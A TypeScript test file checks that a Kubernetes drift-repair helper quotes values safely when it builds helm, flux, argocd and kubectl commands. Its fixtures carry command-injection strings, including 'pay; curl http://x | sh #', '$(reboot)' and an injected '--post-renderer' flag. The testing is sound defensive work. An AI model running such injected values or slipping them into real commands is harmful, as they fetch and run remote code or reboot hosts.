import { expect, it } from 'vitest';
import type { Difference } from './difference.ts';
import { type DeliverySource, repairOf } from './repair.ts';

const difference: Difference = {
  against: 'declared',
  reference: 'Helm',
  path: 'spec.replicas',
  steps: [{ field: 'spec' }, { field: 'replicas' }],
  value: 1,
  expected: "3'; reboot; '",
  isExpectedKnown: true,
  expectedBody: null,
  sinceMs: null,
  actor: null,
};
const commandOf = (source: DeliverySource | null) =>
  repairOf(difference, {
    object: { kind: 'Deployment', namespace: 'shop', name: 'pay' },
    resource: 'deployments.apps',
    source,
  }).command;
const source = { namespace: 'shop', name: 'pay', revision: '' };
const hostile = { namespace: 'shop', name: 'pay; curl http://x | sh #', revision: '$(reboot)' };

it.each([
  [{ ...source, kind: 'release', revision: '7' }, 'helm rollback pay 7 -n shop'],
  [{ ...source, kind: 'release' }, 'helm rollback pay -n shop'],
  [{ ...source, kind: 'HelmRelease' }, 'flux reconcile helmrelease pay -n shop --force'],
  [{ ...source, kind: 'Application' }, 'argocd app sync shop/pay'],
  [{ ...hostile, kind: 'release' }, "helm rollback 'pay; curl http://x | sh #' '$(reboot)' -n shop"],
  [
    { ...hostile, kind: 'Kustomization' },
    "flux reconcile kustomization 'pay; curl http://x | sh #' -n shop --with-source",
  ],
  [{ ...hostile, kind: 'Application' }, "argocd app sync 'shop/pay; curl http://x | sh #'"],
  [{ ...source, kind: 'release', name: '--post-renderer=/tmp/x' }, ''],
])('the command for %j is one that a shell may run', (delivery, command) => {
  expect(commandOf(delivery)).toBe(command);
});

it('a value with quotes stays within its quotes', () => {
  expect(commandOf(null)).toBe(
    String.raw`kubectl patch deployments.apps pay -n shop --type=strategic -p '{"spec":{"replicas":"3'\''; reboot; '\''"}}'`,
  );
});

it('gives no patch with a text that looked like a hash, as it is not the one that was written', () => {
  const faked = { ...difference, expected: `hash :${'0a'.repeat(12)}` };
  const object = { kind: 'Deployment', namespace: 'shop', name: 'pay' };
  expect(repairOf(faked, { object, resource: 'deployments.apps', source: null })).toEqual({ patch: '', command: '' });
});
